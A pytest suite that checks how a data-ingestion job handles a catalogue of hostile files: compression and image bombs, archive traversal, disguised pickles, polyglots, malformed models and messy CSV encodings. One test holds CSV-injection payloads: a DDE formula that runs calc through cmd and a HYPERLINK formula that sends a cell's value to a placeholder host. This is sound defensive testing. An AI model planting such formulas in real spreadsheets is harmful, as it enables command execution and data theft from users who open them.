"""Every hostile file of the shared set, through the real job: a stated refusal, or exactly the right rows."""
# ruff: noqa: E501 - a table of expectations reads best in rows

import json
import shutil
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

BINARY = "an ONNX model"
PICTURE = "single picture"
REFUSED = {
    "01_truncated.csv.gz": "truncated",
    "02_gzip_bad_crc.csv.gz": "CRC",
    "04_gzip_bomb_64MB_in_64KB.csv.gz": "200 times its size",
    "05_zip_bomb_nested.zip": "archive within the archive",
    "07_zip_symlink.zip": "a link or device",
    "08_tar_traversal_hardlink_fifo.tar.gz": "no usable file",
    "09_zip_duplicate_names.zip": "two members called 'same.csv'",
    "19_unclosed_quote.csv": "line 2: a quote is opened and never closed",
    "23_header_only.csv": "no data rows",
    "24_empty.csv": "empty",
    "25_only_bom_and_spaces.csv": "blanks only",
    "26_wide_header.csv": "100,000 columns",
    "40_truncated.png": "damaged",
    "41_bad_crc.png": "damaged",
    "42_png_bomb_20000x20000.png": "20000 x 20000 pixels",
    "43_png_huge_claim.png": "2147483647 x 2147483647 pixels",
    "44_truncated.jpg": "truncated",
    "45_cmyk.jpg": PICTURE,
    "46_exif_rotated.jpg": PICTURE,
    "47_palette_alpha.png": PICTURE,
    "48_16bit_grey.png": PICTURE,
    "49_animated.gif": PICTURE,
    "50_polyglot_jpeg_zip.jpg": PICTURE,
    "51_text_named.jpg": "an HTML page",
    "52_polyglot_pdf_html.csv": "a PDF document",
    "53_svg_script.svg": "an SVG drawing",
    "54_wav_huge_claim.wav": "a WAV sound",
    "55_wav_zero_rate.wav": "a WAV sound",
    "56_deep.json": "a JSON document",
    "57_nan.jsonl": "line 1: NaN is not JSON",
    "58_xlsx_entity_bomb.xlsx": "Excel",
    "60_corrupt_footer.parquet": "Parquet file is damaged",
    "61_footer_length_huge.parquet": "Parquet file is damaged",
    "62_truncated.parquet": "Parquet file is damaged",
    "63_corrupt_page.parquet": "Parquet file is damaged",
    "64_pickle_named.csv": "pickle, which is never opened",
    "65_pickle_named.pkl": "pickle, which is never opened",
    "66_pickle_named_model.pt": "PyTorch checkpoint",
    "67_pickle_named.joblib": "pickle, which is never opened",
    "68_object_array.npy": "a NumPy array",
    "69_npy_huge_shape.npy": "a NumPy array",
    "70_idx_huge_claim-ubyte.gz": "idx",
    "71_safetensors_bad_offsets.safetensors": "a safetensors file",
    "72_safetensors_huge_header.safetensors": "a safetensors file",
    "80_good_small.onnx": BINARY,
    "81_truncated.onnx": BINARY,
    "82_garbage.onnx": BINARY,
    "83_empty.onnx": "empty",
    "84_external_data_0.onnx": BINARY,
    "84_external_data_1.onnx": BINARY,
    "84_external_data_2.onnx": BINARY,
    "84_external_data_3.onnx": BINARY,
    "84_external_data_4.onnx": BINARY,
    "85_external_data_offset.onnx": BINARY,
    "86_huge_initializer_claim.onnx": BINARY,
    "87_negative_dim.onnx": BINARY,
    "88_constantofshape_bomb.onnx": BINARY,
    "89_unknown_op.onnx": BINARY,
    "90_custom_domain.onnx": BINARY,
    "91_cycle.onnx": BINARY,
    "92_dangling_input.onnx": BINARY,
    "93_duplicate_output.onnx": BINARY,
    "94_opset_999.onnx": BINARY,
    "95_shape_mismatch.onnx": BINARY,
    "96_nested_if_25.onnx": BINARY,
    "97_hostile_names.onnx": BINARY,
    "98_many_nodes_20000.onnx": BINARY,
    "99_pickle_named.onnx": "pickle, which is never opened",
}
GOOD = {"id": "integer", "age": "integer", "city": "category", "income": "number", "label": "category"}
CHINESE = {"id": "integer", "标题": "category", "类别": "category"}
# name: rows, types of the columns, lines that were rejected, a word of a warning (empty: none is asked for)
ACCEPTED: dict[str, tuple[int, dict[str, str], list[int | None], str]] = {
    "03_not_gzip.csv.gz": (60, GOOD, [], ""),
    "06_zip_traversal.zip": (60, GOOD, [None, None, None], "read 'ok/train.csv'"),
    "10_ragged_rows.csv": (56, GOOD, [6, 10, 21, 32], "could not be read and were left out: 4"),
    "11_nul_bytes.csv": (60, GOOD, [], "3 lines held NUL"),
    "12_mixed_encodings.csv": (2, {"id": "integer", "text": "category", "label": "category"}, [3, 4], "not UTF-8"),
    "13_gb18030.csv": (45, CHINESE, [], "GB18030"),
    "14_utf16le_bom.csv": (45, CHINESE, [], ""),
    "15_utf16be_nobom.csv": (45, CHINESE, [], "UTF-16-BE"),
    "16_utf8_bom.csv": (60, GOOD, [], ""),
    "17_cr_only.csv": (60, GOOD, [], ""),
    "18_mixed_newlines.csv": (60, GOOD, [], ""),
    "20_embedded_newlines.csv": (3, {"id": "integer", "text": "category", "label": "category"}, [], ""),
    "21_duplicate_columns.csv": (40, dict.fromkeys(["id", "x", "x_2", "X", "x_3", "label"], "integer"), [], "called 'x_2'"),
    "22_empty_and_blank_headers.csv": (40, dict.fromkeys(["column_1", "column_2", "column_3", "label"], "integer"), [], "has no name"),
    "27_semicolon_decimal_comma.csv": (50, {"id": "integer", "preis": "number", "menge": "number", "label": "category"}, [], ""),
    "28_csv_injection.csv": (8, {"id": "integer", "name": "category", "note": "category", "label": "category"}, [], ""),
    "29_all_missing_target.csv": (50, {"a": "integer", "b": "integer", "label": "category"}, [], "'label' has no values"),
    "30_single_class_target.csv": (50, {"a": "integer", "b": "integer", "label": "category"}, [], "constant: 'label'"),
    "31_inf_nan_numbers.csv": (42, {"a": "number", "b": "number", "label": "integer"}, [], "2 infinite or too large"),
    "32_huge_ints.csv": (34, {"id": "text", "big": "text", "label": "integer"}, [], "no digit is lost"),
    "33_dates_mess.csv": (54, {"when": "category", "y": "integer"}, [], "12 of 51 values are ISO dates"),
    "34_duplicate_timestamps_unsorted.csv": (60, {"ts": "datetime", "value": "integer"}, [], ""),
    "35_constant_and_id_columns.csv": (60, {"row_uuid": "text", "const": "integer", "leak": "integer", "label": "integer"}, [], "'leak', 'label' say the same"),
    "36_emoji_rtl_names 数据 📊.csv": (32, {"🏷️ label": "category", "اسم": "integer", "naïve café": "integer"}, [], ""),
}  # fmt: skip


@pytest.fixture
def hostile(shared: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The folder of hostile files; afterwards no pickle may have run and nothing may lie outside the job folders."""
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir()
    monkeypatch.chdir(outside)
    yield shared / "hostile"
    assert list(outside.iterdir()) == []
    jobs = list(tmp_path.iterdir())
    assert all(job.name.startswith("job") for job in jobs)
    assert all({p.name for p in job.iterdir()} == {"input", "output", "events"} for job in jobs)


def test_every_file_is_expected(hostile: Path):
    manifest = json.loads((hostile / "MANIFEST.json").read_text(encoding="utf-8"))
    assert set(manifest) == set(REFUSED) | set(ACCEPTED)
    assert len(manifest) == 92


@pytest.mark.parametrize("name", REFUSED)
def test_refused(hostile: Path, refused: Callable[..., str], name: str):
    assert REFUSED[name] in refused(hostile / name)


@pytest.mark.parametrize("name", ACCEPTED)
def test_accepted(hostile: Path, ingest: Callable[..., Any], name: str):
    rows, types, rejected, word = ACCEPTED[name]
    got = ingest(hostile / name)
    assert got.result.rows == rows
    assert got.types() == types
    assert got.lines() == rejected
    assert got.result.rejected_count == len(rejected)
    assert not word or got.warned(word)


def test_numbers_with_decimal_commas(hostile: Path, ingest: Callable[..., Any]):
    table = ingest(hostile / "27_semicolon_decimal_comma.csv").table
    assert table["preis"][1] == 1.01
    assert table["menge"].to_list()[:2] == [1000.5, 1001.5]


def test_no_digit_of_an_id_is_lost(hostile: Path, ingest: Callable[..., Any]):
    table = ingest(hostile / "32_huge_ints.csv").table
    assert table["id"].to_list()[:5] == ["9007199254740993", "9223372036854775807", "9223372036854775808", "00123", "9007199254740993"]  # fmt: skip
    assert table["big"].to_list()[:2] == ["123456789012345678901234567890", "-99999999999999999999"]
    assert len(table["big"][2]) == 401


def test_cells_keep_newlines_quotes_and_script(hostile: Path, ingest: Callable[..., Any]):
    table = ingest(hostile / "20_embedded_newlines.csv").table
    assert table["text"].to_list() == ["two\nlines, one cell", 'say "hi"', "plain"]
    table = ingest(hostile / "28_csv_injection.csv").table
    assert table["name"].to_list()[:2] == ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?x="&A1,"click")']
    assert table["name"][7] == "\x1b[31mred"


def test_a_nul_does_not_cut_its_cell(hostile: Path, ingest: Callable[..., Any]):
    assert set(ingest(hostile / "11_nul_bytes.csv").table["city"]) == {"Oslo", "Paris", "Wuhan"}


def test_values_that_are_no_numbers_are_counted_and_shown(hostile: Path, ingest: Callable[..., Any]):
    got = ingest(hostile / "31_inf_nan_numbers.csv")
    assert got.table["a"].to_list()[:12] == [1, 2, None, None, -0.0, None, None, None, None, None, None, None]
    assert got.warned("3 of 37 values are not numbers and were set missing: '0x1F', '1_000', '#DIV/0!'")
    assert got.column("b")["max"] == 29


def test_good_pictures_survive_bad_neighbours(
    hostile: Path, ingest: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory
):
    archive = tmp_path_factory.mktemp("zip") / "pictures.zip"
    with zipfile.ZipFile(archive, "w") as packed:
        for path in sorted([*hostile.glob("4*"), *hostile.glob("5[0-3]*")]):
            packed.write(path, f"pictures/{'odd' if int(path.name[:2]) % 2 else 'even'}/{path.name}")
    got = ingest(archive)
    kept = {
        Path(row["path"]).name: (row["label"], row["width"], row["height"]) for row in got.table.iter_rows(named=True)
    }
    assert kept == {
        "45_cmyk.jpg": ("odd", 64, 64),
        "46_exif_rotated.jpg": ("even", 40, 64),
        "47_palette_alpha.png": ("odd", 64, 64),
        "48_16bit_grey.png": ("even", 32, 32),
        "49_animated.gif": ("odd", 64, 64),
        "50_polyglot_jpeg_zip.jpg": ("even", 64, 64),
    }
    assert [Path(r.path or "").name for r in got.result.rejected_first] == [
        "40_truncated.png",
        "41_bad_crc.png",
        "42_png_bomb_20000x20000.png",
        "43_png_huge_claim.png",
        "44_truncated.jpg",
        "51_text_named.jpg",
        "52_polyglot_pdf_html.csv",
        "53_svg_script.svg",
    ]


def test_bad_json_lines_are_named(hostile: Path, ingest: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory):
    mixed = tmp_path_factory.mktemp("jsonl") / "mixed.jsonl"
    shutil.copy(hostile / "57_nan.jsonl", mixed)
    with mixed.open("a") as file:
        file.write('{"x": 5, "y": 0}\n')
    got = ingest(mixed)
    assert got.table.rows() == [(0, 5, 0)]
    assert [(r.line, r.reason.split(";")[0].split(":")[0]) for r in got.result.rejected_first] == [
        (1, "NaN is not JSON"),
        (2, "1e999 is too large for a number"),
        (3, "a key is given twice"),
        (4, "half of a surrogate pair, which is no character"),
        (5, "not JSON"),
        (7, "not an object"),
        (8, "'x' is nested"),
    ]
